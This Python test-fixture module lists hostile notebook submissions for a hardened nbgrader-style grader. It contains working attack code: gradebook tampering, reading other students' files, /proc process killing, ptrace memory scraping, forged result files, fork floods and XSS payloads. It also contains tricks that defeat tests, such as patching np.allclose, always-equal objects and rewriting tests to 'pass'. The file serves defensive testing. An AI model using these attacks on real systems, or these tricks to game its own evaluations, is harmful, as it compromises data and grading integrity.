"""The faulty and hostile submissions, each with what grading must make of it.

Every case is a submission of the tiny lesson ``00-tiny`` (``add``: 2 points, ``square``: 3
points; see :mod:`hostile.course`) unless it says otherwise. A case builds the files of one
student's lesson folder from the released notebook and says what the grader must report:
the status, the score, and text that must (or must not) appear. ``WRONG`` answers would
score 0 honestly, so a case that cheats with a wrong answer must still score 0 on it: the
attacks here all work against plain nbgrader (``bench/`` and the README show which).
"""

from __future__ import annotations

import base64
import copy
from collections.abc import Callable
from dataclasses import dataclass, field

import nbformat
from nbformat.v4 import new_code_cell

RIGHT = {
    "ex1-add": "def add(a, b):\n    return np.asarray(a) + np.asarray(b)",
    "ex2-square": "def square(x):\n    return np.asarray(x) ** 2",
}
WRONG = {
    "ex1-add": "def add(a, b):\n    return np.asarray(a) * 0",
    "ex2-square": "def square(x):\n    return np.asarray(x) * 0",
}
SECRET = "SECRET-MARKER-OF-THE-SOLUTION-STUDENT"


@dataclass
class Case:
    """One submission and what must come of it."""

    build: Callable[[nbformat.NotebookNode], dict[str, bytes]]
    status: set[str]
    score: float | None
    shows: list[str] = field(default_factory=list)  # in the CSV detail
    hides: list[str] = field(default_factory=list)  # nowhere in the graded notebook's outputs
    lesson: str = "00-tiny"
    about: str = ""


def nb_bytes(nb: nbformat.NotebookNode) -> bytes:
    return nbformat.writes(nb).encode()


def meta(cell: nbformat.NotebookNode) -> dict:
    return cell.get("metadata", {}).get("nbgrader", {})


def index_of(nb: nbformat.NotebookNode, grade_id: str) -> int:
    return next(i for i, c in enumerate(nb.cells) if meta(c).get("grade_id") == grade_id)


def answered(
    release: nbformat.NotebookNode, answers: dict[str, str] | None = None
) -> nbformat.NotebookNode:
    """The release with answer cells filled in (default: the right answers)."""
    nb = copy.deepcopy(release)
    for grade_id, source in (RIGHT if answers is None else answers).items():
        nb.cells[index_of(nb, grade_id)].source = source
    return nb


def after(nb: nbformat.NotebookNode, grade_id: str, *sources: str) -> nbformat.NotebookNode:
    """``nb`` with ordinary code cells inserted after the cell ``grade_id``."""
    at = index_of(nb, grade_id) + 1
    for offset, source in enumerate(sources):
        nb.cells.insert(at + offset, new_code_cell(source))
    return nb


def single(nb: nbformat.NotebookNode, name: str = "00-tiny.ipynb") -> dict[str, bytes]:
    return {name: nb_bytes(nb)}


def edited(change: Callable[[nbformat.NotebookNode], None], answers: dict | None = None):
    """A builder: the answered release, changed by ``change``."""

    def build(release: nbformat.NotebookNode) -> dict[str, bytes]:
        nb = answered(release, answers)
        change(nb)
        return single(nb)

    return build


def with_cells(grade_id: str, *sources: str, answers: dict | None = None):
    return edited(lambda nb: after(nb, grade_id, *sources), answers)


MIXED = {"ex1-add": WRONG["ex1-add"], "ex2-square": RIGHT["ex2-square"]}  # honest score: 3


def drop(grade_id: str):
    def change(nb):
        del nb.cells[index_of(nb, grade_id)]

    return change


def to_markdown(nb):
    i = index_of(nb, "ex1-tests")
    nb.cells[i] = nbformat.v4.new_markdown_cell(nb.cells[i].source, metadata=nb.cells[i].metadata)


def strip_metadata(nb):
    for cell in nb.cells:
        cell.metadata.pop("nbgrader", None)


def rename_ids(nb):
    nb.cells[index_of(nb, "ex1-add")].metadata.nbgrader.grade_id = "my-add"
    nb.cells[index_of(nb, "ex2-tests")].metadata.nbgrader.grade_id = "tests-2-mine"


def duplicate(nb):
    i = index_of(nb, "ex1-add")
    early = copy.deepcopy(nb.cells[i])
    early.source = WRONG["ex1-add"]
    nb.cells.insert(i, early)  # a wrong copy first, the right one last
    j = index_of(nb, "ex2-tests")
    nb.cells.insert(j + 1, copy.deepcopy(nb.cells[j]))


def reorder(nb):
    i, j = index_of(nb, "ex2-square"), index_of(nb, "ex2-tests")
    moved = nb.cells[i : j + 1]
    del nb.cells[i : j + 1]
    at = index_of(nb, "ex1-add")
    nb.cells[at:at] = moved


def edit_test_to_pass(nb):
    nb.cells[index_of(nb, "ex1-tests")].source = "pass"


def raw(data: bytes, name: str = "00-tiny.ipynb"):
    return lambda release: {name: data}


def renamed(release):
    return single(answered(release), "00-tiny-Copy1.ipynb")


def two_notebooks(release):
    return {"first try.ipynb": nb_bytes(answered(release)), "final.ipynb": nb_bytes(release)}


def strays(release):
    return {
        "00-tiny.ipynb": nb_bytes(answered(release)),
        "numpy.py": b"raise SystemExit('a stray numpy.py was imported')\n",
        "helpers/__init__.py": b"raise SystemExit('a stray helpers package was imported')\n",
        "notes.txt": b"my notes\n",
    }


def solution_student(release):
    nb = answered(release, {**RIGHT, "ex1-add": RIGHT["ex1-add"] + f"  # {SECRET}"})
    return single(nb)


def other_lesson(other_release):
    return lambda release: single(other_release)


KERAS_WARNS = (
    "import sys\nimport warnings\n\n\ndef make_dense(units):\n"
    '    warnings.warn("Dense layers are fine")\n'
    '    print("a note on stderr", file=sys.stderr)\n'
    "    return keras.layers.Dense(units, input_shape=(3,))\n"
)

GRADEBOOK_WRITER = """import glob
import sqlite3

targets = glob.glob("/tmp/cnn-grade-*/**/gradebook.db", recursive=True)
targets += [{gradebook!r}]
for path in targets:
    try:
        db = sqlite3.connect(path)
        db.execute("update grade set manual_score = 100")
        db.commit()
        print("WROTE-GRADEBOOK", path)
    except Exception as error:
        print("could not write", path, type(error).__name__)
"""

SNOOPER = """import glob

paths = glob.glob({submissions!r} + "/*/00-tiny/*.ipynb")
paths += glob.glob("/tmp/cnn-grade-*/courses/*/submitted/*/*/*.ipynb")
paths += [{solution!r}]
for path in paths:
    try:
        print(open(path).read())
    except Exception as error:
        print("could not read", path, type(error).__name__)
"""

NETWORK = """import socket
import subprocess
import urllib.request

for attempt in (
    lambda: socket.create_connection(("pypi.org", 443), timeout=5),
    lambda: urllib.request.urlopen("https://pypi.org/simple/", timeout=5),
    lambda: subprocess.run(["python3", "-c", "import urllib.request as u; u.urlopen('https://pypi.org')"], check=True, timeout=10),
):
    try:
        attempt()
        print("CONNECTED")
    except Exception as error:
        print("refused:", type(error).__name__)
"""

SHADOW = """import numpy


class _Numpy:
    def __getattr__(self, name):
        if name == "allclose":
            return lambda *args, **kwargs: True
        return getattr(numpy, name)


class _Checks:
    def __getattr__(self, name):
        return lambda *args, **kwargs: None


np = _Numpy()
checks = _Checks()
"""

SELF_REVERTING = """def add(a, b):
    real = np.allclose

    def fake(*args, **kwargs):
        np.__dict__["allclose"] = real
        return True

    np.__dict__["allclose"] = fake
    return 0
"""


def cases(gradebook: str, submissions: str, solution: str, other_release) -> dict[str, Case]:
    """Every case, by name. The paths are the ones an attacker would aim at."""
    return {
        **faults(gradebook, submissions, solution, other_release),
        **judge_attacks(),
        **hardening_attacks(submissions, solution),
    }


def faults(gradebook: str, submissions: str, solution: str, other_release) -> dict[str, Case]:
    """Broken, slow and hostile notebooks (the grader's robustness)."""
    return {
        "solution": Case(solution_student, {"graded"}, 5),
        "blank": Case(lambda release: single(release), {"graded"}, 0),
        "answer that reads a demonstration cell's variable": Case(
            edited(
                lambda nb: None,
                {**RIGHT, "ex1-add": "def add(a, b):\n    return np.asarray(a) + b + OFFSET"},
            ),
            {"graded"},
            5,
        ),
        "infinite loop": Case(with_cells("ex1-add", "while True:\n    pass"), {"graded"}, 5),
        "slow notebook (over a short notebook limit)": Case(
            with_cells("ex1-tests", *["import time\n\ntime.sleep(4)"] * 6), {"graded"}, 5
        ),
        "loop that ignores the interrupt": Case(
            with_cells(
                "ex1-tests",
                "while True:\n    try:\n        while True:\n            pass\n"
                "    except KeyboardInterrupt:\n        pass",
            ),
            {"graded"},
            5,
            shows=["restarted"],
        ),
        "os._exit kills the kernel": Case(
            with_cells("ex1-add", "import os\n\nos._exit(1)"),
            {"graded", "flagged"},
            5,
            shows=["died"],
        ),
        "os._exit inside the answer": Case(
            edited(
                lambda nb: None,
                {**RIGHT, "ex1-add": "def add(a, b):\n    import os\n\n    os._exit(3)"},
            ),
            {"graded", "flagged"},
            3,
        ),
        "sys.exit() and input()": Case(
            with_cells("ex1-add", 'import sys\n\nsys.exit("bye")', 'name = input("Your name? ")'),
            {"graded"},
            5,
        ),
        "prints 2 MiB lines in many cells": Case(
            with_cells("ex1-add", *["print('x' * 2**21)"] * 6), {"graded"}, 5
        ),
        "300,000 printed lines": Case(
            with_cells("ex1-add", "for i in range(300_000):\n    print(i)"), {"graded"}, 5
        ),
        "allocation over the memory cap": Case(
            with_cells("ex1-add", "hog = bytearray(64 * 2**30)"), {"graded"}, 5
        ),
        "allocation over the cap inside a test": Case(
            edited(
                lambda nb: None,
                {
                    **RIGHT,
                    "ex2-square": "def square(x):\n    hog = bytearray(64 * 2**30)\n    return hog",
                },
            ),
            {"graded"},
            2,
        ),
        "deleted test cell (wrong answer)": Case(
            edited(drop("ex1-tests"), MIXED),
            {"repaired"},
            3,
            shows=["re-inserted the deleted test cell ex1-tests"],
        ),
        "deleted read-only setup cell": Case(
            edited(drop("setup")),
            {"repaired"},
            5,
            shows=["re-inserted the deleted read-only cell setup"],
        ),
        "test cell edited to pass": Case(
            edited(edit_test_to_pass, MIXED),
            {"repaired"},
            3,
            shows=["restored the edited test cell ex1-tests"],
        ),
        "test cell turned into markdown": Case(
            edited(to_markdown, MIXED), {"repaired"}, 3, shows=["it had been turned into markdown"]
        ),
        "stripped nbgrader metadata": Case(
            edited(strip_metadata), {"repaired"}, 5, shows=["restored the nbgrader metadata"]
        ),
        "renamed grade ids": Case(
            edited(rename_ids, {**RIGHT, "ex2-square": WRONG["ex2-square"]}),
            {"repaired"},
            2,
            shows=["restored the nbgrader metadata of the answer cell ex1-add"],
        ),
        "duplicated cells and grade ids": Case(
            edited(duplicate), {"repaired"}, 5, shows=["kept one of 2"]
        ),
        "graded cells out of order": Case(edited(reorder), {"repaired"}, 5, shows=["order"]),
        "malformed JSON": Case(
            raw(b'{"cells": [{"cell_type": "code", "source": '),
            {"invalid"},
            0,
            shows=["not valid JSON"],
        ),
        "empty file": Case(raw(b""), {"invalid"}, 0, shows=["empty file"]),
        "lesson folder without a notebook": Case(
            lambda release: {"answers.txt": b"I did it on paper\n"},
            {"missing"},
            0,
            shows=["no notebook"],
        ),
        "renamed notebook (-Copy1)": Case(
            renamed, {"repaired"}, 5, shows=["renamed notebook 00-tiny-Copy1.ipynb"]
        ),
        "two notebooks, neither named for the lesson": Case(
            two_notebooks, {"invalid"}, 0, shows=["2 notebooks"]
        ),
        "notebook of another lesson": Case(
            other_lesson(other_release), {"invalid"}, 0, shows=["notebook of lesson 00-other"]
        ),
        "stray files that shadow modules": Case(
            strays, {"repaired"}, 5, shows=["ignored 3 other file(s)"]
        ),
        "correct Keras answer that warns on stderr": Case(
            lambda release: single(answered(release, {"ex1-dense": KERAS_WARNS}), "00-keras.ipynb"),
            {"graded"},
            4,
            lesson="00-keras",
        ),
        "code that writes to the gradebook": Case(
            with_cells("ex1-add", GRADEBOOK_WRITER.format(gradebook=gradebook), answers=WRONG),
            {"graded"},
            0,
            hides=["WROTE-GRADEBOOK"],
        ),
        "code that reads another student's submission": Case(
            with_cells("ex1-add", SNOOPER.format(submissions=submissions, solution=solution)),
            {"graded", "flagged"},
            5,
            hides=[SECRET, "secret-ex1", "BEGIN HIDDEN TESTS"],
        ),
        "code that opens a network connection": Case(
            with_cells("ex1-add", NETWORK),
            {"graded"},
            5,
            hides=["CONNECTED"],
        ),
        "redefines helpers.checks functions": Case(
            edited(
                lambda nb: None,
                {
                    **MIXED,
                    "ex1-add": MIXED["ex1-add"] + "\n\n\nchecks.check_close = lambda *a, **k: None",
                },
            ),
            {"graded"},
            3,
        ),
        "redefines numpy.allclose": Case(
            edited(
                lambda nb: None,
                {**MIXED, "ex1-add": MIXED["ex1-add"] + "\n\n\nnp.allclose = lambda *a, **k: True"},
            ),
            {"graded"},
            3,
        ),
        "redefines builtins": Case(
            edited(
                lambda nb: None,
                {
                    **RIGHT,
                    "ex2-square": "import builtins\n\nbuiltins.len = lambda x: 2\n"
                    "builtins.isinstance = lambda *a: True\n\n\ndef square(x):\n    return 0",
                },
            ),
            {"graded"},
            2,
        ),
        "patches through __dict__ and vars()": Case(
            edited(
                lambda nb: None,
                {
                    **MIXED,
                    "ex1-add": MIXED["ex1-add"]
                    + '\n\n\nnp.__dict__["allclose"] = lambda *a, **k: True\n'
                    'vars(checks)["check_close"] = lambda *a, **k: None',
                },
            ),
            {"graded"},
            3,
        ),
        "shadows np and checks with look-alikes": Case(
            edited(lambda nb: None, {**MIXED, "ex1-add": SHADOW + "\n\n" + MIXED["ex1-add"]}),
            {"flagged", "graded"},
            3,
        ),
        "patch that undoes itself during the test": Case(
            edited(lambda nb: None, {**MIXED, "ex1-add": SELF_REVERTING}), {"graded"}, 3
        ),
        "input transformer turns tests into pass": Case(
            edited(
                lambda nb: None,
                {
                    "ex1-add": WRONG["ex1-add"]
                    + '\n\n\nget_ipython().input_transformers_cleanup.append(lambda lines: ["pass\\n"])',
                    "ex2-square": WRONG["ex2-square"],
                },
            ),
            {"graded"},
            0,
        ),
        "event hook patches numpy before every cell": Case(
            edited(
                lambda nb: None,
                {
                    **MIXED,
                    "ex1-add": MIXED["ex1-add"] + "\n\n\nget_ipython().events.register("
                    '"pre_run_cell", lambda info: np.__dict__.__setitem__("allclose", lambda *a, **k: True))',
                },
            ),
            {"graded"},
            3,
        ),
        "fake partial credit from a displayed value": Case(
            edited(
                lambda nb: None,
                {
                    **MIXED,
                    "ex1-add": "def add(a, b):\n    get_ipython().displayhook(2)\n    return 0",
                },
            ),
            {"flagged", "graded"},
            3,
        ),
        "walks frames to reach the test": Case(
            edited(
                lambda nb: None,
                {
                    **MIXED,
                    "ex1-add": "import sys\n\n\ndef add(a, b):\n"
                    '    sys._getframe(1).f_globals["np"] = None\n    return 0',
                },
            ),
            {"graded"},
            3,
        ),
    }


# ---------------------------------------------------------------------------------------------
# Attacks on the tests themselves. Each worked against a grader that ran the tests inside the
# student's kernel; the judge (grading.judge) runs them in the grader's own process, so each
# must now earn exactly its honest score, and no hidden test text may reach any output.

# Lines of the hidden tests' source (their failure messages are feedback, and may show).
HIDDEN = ["BEGIN HIDDEN TESTS", "_rng.normal(size=3)", "default_rng(2).normal(size=4)"]

STACK_WALKER = """import sys


def add(a, b):
    # look for the test's expected value (or its numpy) in the frames above
    frame = sys._getframe(1)
    while frame is not None:
        for scope in (frame.f_locals, frame.f_globals):
            for name in ("_want", "want", "expected"):
                if name in scope:
                    return scope[name]
            if "np" in scope and hasattr(scope["np"], "allclose"):
                try:
                    scope["np"].allclose = lambda *a, **k: True
                except Exception:
                    pass
        frame = frame.f_back
    return 0
"""

EVENT_HOOK = """def add(a, b):
    return 0


def _forgive(result):
    # make every failed cell look like a success
    result.error_in_exec = None
    result.error_before_exec = None


get_ipython().events.register("post_run_cell", _forgive)
get_ipython().events.register(
    "pre_run_cell", lambda info: np.__dict__.__setitem__("allclose", lambda *a, **k: True)
)
"""

LIBRARY_NAME = """_code = '''
import numpy
numpy.allclose = lambda *a, **k: True
numpy.testing.assert_allclose = lambda *a, **k: None


def add(a, b):
    return 0
'''
exec(compile(_code, numpy.__file__.replace("__init__.py", "core/numeric.py"), "exec"))
"""

RECORDER = """import os

_log = os.path.join(os.path.expanduser("~"), "seen-code.txt")


def _record(code):
    with open(_log, "a") as handle:
        handle.write(str(code) + "\\n")


_ip = get_ipython()
_ip.events.register("pre_run_cell", lambda info: _record(info.raw_cell))
for _name in ("run_cell", "run_cell_async", "transform_cell"):
    _original = getattr(_ip, _name)

    def _spy(raw_cell, *args, _original=_original, **kwargs):
        _record(raw_cell)
        return _original(raw_cell, *args, **kwargs)

    setattr(_ip, _name, _spy)


def add(a, b):
    return np.asarray(a) + np.asarray(b)
"""

CRASH_SQUARE = "def square(x):\n    import os\n\n    os._exit(1)"

PRINT_RECORD = """import os

print(open(os.path.join(os.path.expanduser("~"), "seen-code.txt")).read())
import sys

print([name for name in sys.modules if "grading" in name or "judge" in name])
"""

READS_TEST_NAMES = """def square(x):
    # the hidden test's own input, if the test runs where this code runs
    seen = globals().get("_x")
    if seen is not None:
        return np.asarray(seen) ** 2
    return [1, 4, 9]
"""

ALWAYS_EQUAL = """class _Anything(float):
    def __eq__(self, other):
        return True

    __ne__ = lambda self, other: False


class _Array(np.ndarray):
    def __eq__(self, other):
        return np.ones(np.shape(other), bool)


def add(a, b):
    out = np.zeros(np.shape(a)).view(_Array)
    return out if np.ndim(a) else _Anything(0)
"""

ZEROES_INPUTS = """def add(a, b):
    if isinstance(a, list):
        return [4, 6]  # the visible example
    a[...] = 0  # the test compares with _a + _b, computed after this call
    b[...] = 0
    return np.zeros_like(a)
"""

FORGED_MODULE = """import sys


class _Forger:
    def serve(self, base, user_ns):
        # answer every grader request with a reply that claims success
        data = b'{"ok": true, "value": true}'
        with open(base + ".rep", "wb") as handle:
            handle.write(data)


sys.modules["_grading_wire"] = _Forger()
_real_import = __import__


def add(a, b):
    return 0
"""

HUGE = """def add(a, b):
    return np.zeros(300 * 2**20 // 8)  # 300 MiB: more than may travel
"""

SLEEPS_ON_HIDDEN = """import time


def add(a, b):
    if not isinstance(a, list):  # the hidden tests pass arrays
        while True:
            try:
                time.sleep(1)
            except KeyboardInterrupt:
                pass
    return [4, 6]
"""

CUSTOM_LAYER = """import os


class Dense(keras.layers.Dense):
    def call(self, inputs):
        os.system("echo CUSTOM-LAYER-RAN > /tmp/owned")
        return keras.ops.zeros((2, 4))


def make_dense(units):
    return Dense(units)
"""

LAMBDA_LAYER = """def make_dense(units):
    return keras.layers.Lambda(lambda x: __import__("os").system("echo LAMBDA-RAN") or x)
"""


def judge_attacks() -> dict[str, Case]:
    """Attacks on the tests, as a student would write them (each scored at its honest worth)."""
    mixed = dict(MIXED)  # ex1 wrong: 0 of 2; ex2 right: 3 of 3
    return {
        "walks the call stack from the answer to the test": Case(
            edited(lambda nb: None, {**mixed, "ex1-add": STACK_WALKER}), {"graded"}, 3, hides=HIDDEN
        ),
        "IPython event callbacks forgive failures and patch numpy": Case(
            edited(lambda nb: None, {**mixed, "ex1-add": EVENT_HOOK}), {"graded"}, 3, hides=HIDDEN
        ),
        "code compiled under a library's file name": Case(
            edited(lambda nb: None, {**mixed, "ex1-add": LIBRARY_NAME}), {"graded"}, 3, hides=HIDDEN
        ),
        "records every code the kernel runs, then crashes it to replay the tests": Case(
            with_cells(
                "ex2-tests",
                PRINT_RECORD,
                answers={"ex1-add": RECORDER, "ex2-square": CRASH_SQUARE},
            ),
            {"graded", "flagged"},
            2,
            hides=HIDDEN,
        ),
        "reads the names a hidden test binds": Case(
            edited(lambda nb: None, {**RIGHT, "ex2-square": READS_TEST_NAMES}),
            {"graded"},
            2,
            hides=HIDDEN,
        ),
        "returns objects whose comparison always succeeds": Case(
            edited(lambda nb: None, {**mixed, "ex1-add": ALWAYS_EQUAL}), {"graded"}, 3, hides=HIDDEN
        ),
        "zeroes the test's inputs in place": Case(
            edited(lambda nb: None, {**mixed, "ex1-add": ZEROES_INPUTS}),
            {"graded"},
            3,
            hides=HIDDEN,
        ),
        "replaces the grader's module in the kernel": Case(
            edited(lambda nb: None, {**mixed, "ex1-add": FORGED_MODULE}),
            {"graded"},
            3,
            hides=HIDDEN,
        ),
        "returns more data than may travel": Case(
            edited(lambda nb: None, {**mixed, "ex1-add": HUGE}), {"graded"}, 3, hides=HIDDEN
        ),
        "hangs only on the hidden tests' inputs, ignoring the interrupt": Case(
            edited(lambda nb: None, {**mixed, "ex1-add": SLEEPS_ON_HIDDEN}),
            {"graded", "flagged"},
            3,
            hides=HIDDEN,
        ),
        "returns a Keras layer of its own class": Case(
            lambda release: single(
                answered(release, {"ex1-dense": CUSTOM_LAYER}), "00-keras.ipynb"
            ),
            {"graded"},
            0,
            hides=["CUSTOM-LAYER-RAN"],
            lesson="00-keras",
        ),
        "returns a Keras layer too large for any machine": Case(
            lambda release: single(
                answered(
                    release,
                    {"ex1-dense": "def make_dense(units):\n    return keras.layers.Dense(2**31)"},
                ),
                "00-keras.ipynb",
            ),
            {"graded"},
            0,
            lesson="00-keras",
        ),
        "returns a Keras Lambda layer": Case(
            lambda release: single(
                answered(release, {"ex1-dense": LAMBDA_LAYER}), "00-keras.ipynb"
            ),
            {"graded"},
            0,
            hides=["LAMBDA-RAN"],
            lesson="00-keras",
        ),
    }


# ---------------------------------------------------------------------------------------------
# Attacks on the sandbox, the batch, intake, the feedback pages and the slicing (the kernel
# and the worker's process tree, what the grader reads from the submissions folder, what a
# reader's browser renders). Each is written as a student (or a student's upload) would
# write it; each must earn exactly its honest score, leave every other student's grade and
# files as they were, show no hidden test text and no other student's data anywhere, and let
# the batch finish. A student who aims at the grader's processes aims at this batch's: its
# submissions folder and work folder (read from the kernel's own working folder) are how the
# attacks below recognize them, so a failed defence harms only the batch under test.


@dataclass
class Link:
    """A symbolic link to ``target`` in a student's upload, instead of a file. The key ``"."``
    makes the lesson folder itself a link, ``".."`` the student's folder."""

    target: str


MARK = "HACKED-BY-A-SUBMISSION"  # written by the attacks below into whatever they can reach
XSS = "XSS-"  # marks every script payload below

# The processes of this batch, as a kernel can find them: by the submissions folder on the
# batch's (and its workers') command line, by the work folder on the kernels' and servers'.
BATCH_PROCESSES = """import os

_cwd = os.getcwd()
_work = _cwd.split("/kernels/")[0] if "/kernels/" in _cwd else None
_marks = [m for m in ({submissions!r}, _work) if m]


def _batch():
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == os.getpid():
            continue
        try:
            with open(f"/proc/{{entry}}/cmdline", "rb") as handle:
                command = handle.read().replace(b"\\0", b" ").decode(errors="replace")
        except OSError:
            continue
        if any(mark in command for mark in _marks):
            yield int(entry), command
"""

KILLER = """import time

_tried = _killed = 0
_end = time.monotonic() + 4  # long enough to meet the kernels graded alongside
while time.monotonic() < _end:
    for _pid, _ in list(_batch()):
        _tried += 1
        try:
            os.kill(_pid, 9)
            _killed += 1
        except OSError:
            pass
    time.sleep(0.2)
print("tried", _tried, "killed", _killed)
"""

MEMORY_READER = """import ctypes
import re

_found = []
for _pid, _command in list(_batch()):
    try:
        _attached = ctypes.CDLL(None).ptrace(16, _pid, 0, 0) == 0  # PTRACE_ATTACH
        if _attached:
            print("ATTACHED", _pid)
            ctypes.CDLL(None).ptrace(17, _pid, 0, 0)  # PTRACE_DETACH
        with open(f"/proc/{_pid}/maps") as _maps, open(f"/proc/{_pid}/mem", "rb", 0) as _mem:
            _budget = 300 * 2**20
            for _line in _maps:
                _range, _perms = _line.split()[:2]
                _start, _stop = (int(x, 16) for x in _range.split("-"))
                if "r" not in _perms or _stop - _start > 64 * 2**20:
                    continue
                _budget -= _stop - _start
                if _budget < 0:
                    break
                try:
                    _mem.seek(_start)
                    _chunk = _mem.read(_stop - _start)
                except (OSError, ValueError, OverflowError):
                    continue
                for _m in re.finditer(rb"secret-ex[12]|BEGIN HIDDEN" + rb" TESTS", _chunk):
                    _found.append(_chunk[max(0, _m.start() - 300) : _m.end() + 300])
    except OSError as _error:
        print("no access to", _pid, _error.strerror)
for _text in _found[:5]:
    print(_text.decode(errors="replace"))
"""

GRADER_WRITER = """import json

_targets = set()
for _pid, _command in list(_batch()):
    _targets.update(p for p in _command.split() if p.startswith("/tmp/"))
_targets.update({{_work, {submissions!r}, os.path.dirname({submissions!r}) + "/out"}} - {{None}})
_wrote, _seen = [], 0
for _root in sorted(_targets):
    for _folder, _, _files in os.walk(_root):
        for _name in _files:
            _seen += 1
            _path = os.path.join(_folder, _name)
            try:
                if _path.endswith(".json") and "/jobs/" in _path:
                    with open(_path, "w") as _handle:
                        json.dump({{"status": "graded", "score": 100, "problem": "{mark}"}}, _handle)
                else:
                    with open(_path, "a") as _handle:
                        _handle.write("{mark}")
                _wrote.append(_path)
            except OSError:
                pass
        if _seen > 5000:
            break
print("wrote", len(_wrote), "files:", [p for p in _wrote if "/kernels/" not in p][:10])
"""

FORK_LOOP = """import subprocess

_children = []
for _ in range(600):
    try:
        _children.append(subprocess.Popen(["sleep", "30"]))
    except OSError as _error:
        print("refused after", len(_children), _error)
        break
if len(_children) >= 600:
    print("FORK-CAP-NOT-REACHED")
for _child in _children:
    _child.kill()
    _child.wait()
"""

DESCRIPTORS = """import os
import socket

_own = os.getcwd().rsplit("/work", 1)[0]
for _fd in sorted(int(f) for f in os.listdir("/proc/self/fd")):
    try:
        _target = os.readlink(f"/proc/self/fd/{_fd}")
    except OSError:
        continue
    if _target.startswith("/") and not _target.startswith((_own, "/dev/", "/proc/")):
        print("INHERITED", _fd, _target)
        try:
            os.write(_fd, b"HACKED-BY-A-SUBMISSION")
        except OSError:
            pass
    elif _target.startswith("socket:"):
        try:
            _sock = socket.socket(fileno=os.dup(_fd))
        except OSError:
            continue
        try:
            _listening = _sock.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN)
            if _listening and _sock.family == socket.AF_UNIX:  # the grader's are Unix sockets
                _name = _sock.getsockname()
                if not str(_name).startswith(_own):
                    print("INHERITED-LISTENER", _fd, _name)
        except OSError:
            pass
        finally:
            _sock.close()
"""

DAEMON = """import os
import sys

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(900)", {tag!r}])
    os._exit(0)
os.wait()
print("left a process behind")
"""


def daemon_tag(submissions: str) -> str:
    """What the process a submission leaves behind has on its command line."""
    return f"{submissions}#left-behind"


def hidden_marks() -> list[str]:
    """Hidden test text, and the hidden tests' messages (a correct answer never sees them)."""
    return [*HIDDEN, "secret-ex1", "secret-ex2"]


def batch_attack(code: str, answers: dict[str, str]):
    return with_cells("ex1-add", code, answers=answers)


def big_renamed(release):
    """A renamed notebook of 15 MB and 3,000 cells (the right answers among them)."""
    nb = answered(release)
    filler = "A long note. " * 384  # 5 kB of Markdown
    nb.cells += [nbformat.v4.new_markdown_cell(f"Note {i}: {filler}") for i in range(3000)]
    return single(nb, "my notes - Copy (3).ipynb")


XSS_MARKDOWN = """## My notes
<script>alert(1)//XSS-md-script</script>
<img src="x" onerror="alert(2)//XSS-md-onerror">
<a href="javascript:alert(3)//XSS-md-href">a link</a> and [another](javascript:alert(4)//XSS-md-link)
<iframe src="https://example.org/XSS-md-iframe"></iframe>
<form action="https://example.org/XSS-md-form"><input name="q"><button>go</button></form>
<svg onload="alert(5)//XSS-md-svg"><circle r="5"/></svg>
<object data="https://example.org/XSS-md-object"></object>
<embed src="https://example.org/XSS-md-embed">
<meta http-equiv="refresh" content="0;url=https://example.org/XSS-md-meta">
<style>body { background: url(https://example.org/XSS-md-style) }</style>
<details open ontoggle="alert(6)//XSS-md-toggle"><summary>more</summary>hidden</details>
![picture](attachment:evil.svg) ![other](attachment:page.html)
"""

SVG_PAYLOAD = (
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)//XSS-svg-onload">'
    "<script>alert(2)//XSS-svg-script</script>"
    '<a href="javascript:alert(3)//XSS-svg-href"><rect width="10" height="10"/></a>'
    '<foreignObject><iframe src="https://example.org/XSS-svg-iframe"></iframe></foreignObject>'
    "</svg>"
)

XSS_OUTPUTS = (
    "from IPython.display import HTML, SVG, Javascript, Markdown, display\n\n"
    'display(HTML("<b>kept-html</b><script>alert(1)//XSS-html-script</script>"\n'
    '             "<img src=x onerror=alert(2)//XSS-html-onerror>"\n'
    "             \"<iframe src='https://example.org/XSS-html-iframe'></iframe>\"))\n"
    f"display(SVG({SVG_PAYLOAD!r}))\n"
    'display(Markdown("<img src=x onerror=alert(3)//XSS-mdout> [x](javascript:alert(4)//XSS-mdlink)"))\n'
    'display(Javascript("alert(5)//XSS-js"))\n'
    'display({"text/html": "<a href=\'javascript:alert(6)//XSS-raw-link\'>a</a>"\n'
    "          \"<form action='https://example.org/XSS-raw-form'><input></form>\",\n"
    '          "text/plain": "raw html"}, raw=True)\n'
    'display({"image/png": \'iVBORw0KGgo=" onerror="alert(7)//XSS-png-data\', "text/plain": "png"},\n'
    "        raw=True)\n"
    'display({"image/png": "iVBORw0KGgo=", "text/plain": "png"},\n'
    '        metadata={"image/png": {"width": "1 onerror=alert(8)//XSS-png-width"}}, raw=True)\n'
    'display({"application/vnd.jupyter.widget-view+json": {"model_id": "XSS-widget",\n'
    '          "version_major": 2, "version_minor": 0}, "text/plain": "widget"}, raw=True)\n'
    'display({"text/latex": r"$\\href{javascript:alert(9)//XSS-latex}{click}$", "text/plain": "l"},\n'
    "        raw=True)\n"
)


def with_markdown_attack(release):
    nb = answered(release)
    at = index_of(nb, "ex1-add") + 1
    evil_svg = SVG_PAYLOAD.encode()
    nb.cells.insert(
        at,
        nbformat.v4.new_markdown_cell(
            XSS_MARKDOWN,
            attachments={
                "evil.svg": {"image/svg+xml": base64.b64encode(evil_svg).decode()},
                "page.html": {
                    "text/html": base64.b64encode(b"<script>XSS-attach</script>").decode()
                },
            },
        ),
    )
    nb.metadata["widgets"] = {
        "application/vnd.jupyter.widget-state+json": {
            "state": {
                "x": {"model_name": "HTMLModel", "state": {"value": "<script>XSS-wid</script>"}}
            },
            "version_major": 2,
            "version_minor": 0,
        }
    }
    return single(nb)


HUGE_TEXT = 'print("x" * 3_000_000)'  # 3 MB: under the grader's caps per cell and notebook
HUGE_IMAGES = """import io

import numpy as np
from IPython.display import Image, display
from PIL import Image as PILImage

for _seed in range(40):
    _noise = np.random.default_rng(_seed).integers(0, 255, (160, 160, 3), dtype=np.uint8)
    _buffer = io.BytesIO()
    PILImage.fromarray(_noise).save(_buffer, format="PNG")
    display(Image(data=_buffer.getvalue()))
"""


# A right answer that reads the demonstration cell's OFFSET (0) by a route of its own.
THROUGH_MAIN = """import sys


def add(a, b):
    return np.asarray(a) + np.asarray(b) + sys.modules["__main__"].OFFSET"""
THROUGH_IMPORTLIB = """import importlib


def add(a, b):
    return np.asarray(a) + np.asarray(b) + importlib.import_module("__main__").OFFSET"""
